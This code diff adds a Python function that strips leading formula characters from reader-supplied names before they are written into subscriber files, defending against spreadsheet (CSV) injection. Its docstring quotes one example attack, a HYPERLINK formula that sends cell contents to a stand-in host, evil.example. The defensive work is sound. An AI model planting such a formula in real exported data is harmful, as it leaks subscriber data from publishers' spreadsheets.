@@ -63,3 +63,18 @@ def balance_bidi(text: str) -> str:
             out.append(char)
     out.extend(reversed([closer for closer in open_ if closer]))
     return "".join(out)
+
+
+# what makes a spreadsheet run a cell as a formula (OWASP, CSV injection)
+FORMULA_START = "=+-@"
+
+
+def no_formula(text: str) -> str:
+    """``text`` without what would start a spreadsheet formula (``=``, ``+``, ``-``, ``@``, and
+    white space before them): for a name a reader typed (a web form, another service's
+    form) that is written into the subscriber files, which publishers open in spreadsheets
+    (``=HYPERLINK("https://evil.example/?"&A2)`` would run there)."""
+    start = 0
+    while start < len(text) and (text[start] in FORMULA_START or text[start].isspace()):
+        start += 1
+    return text[start:]
